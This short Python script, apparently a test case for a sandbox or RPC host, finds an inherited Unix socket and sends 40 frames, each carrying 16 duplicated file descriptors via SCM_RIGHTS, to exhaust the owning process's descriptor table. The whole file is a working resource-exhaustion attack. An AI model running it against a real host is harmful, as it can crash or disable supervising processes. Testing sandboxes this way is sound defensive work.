# Sends descriptors along with its frames, to fill its owner's table.
# status: ok
# output: sent
# calls: 40
import array, _socket, os, stat
def is_socket(fd):
    try: return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError: return False
fd = next(fd for fd in range(3, 64) if is_socket(fd))
channel = _socket.socket(1, 1, 0, fileno=os.dup(fd))
body = b'{"call":"count","arguments":{"bin":"A","item":"nut"}}'
for _ in range(40):
    _ = channel.sendmsg([len(body).to_bytes(4, "big") + body], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, array.array("i", [0] * 16))])
    _ = os.read(fd, 4096)
print("sent")
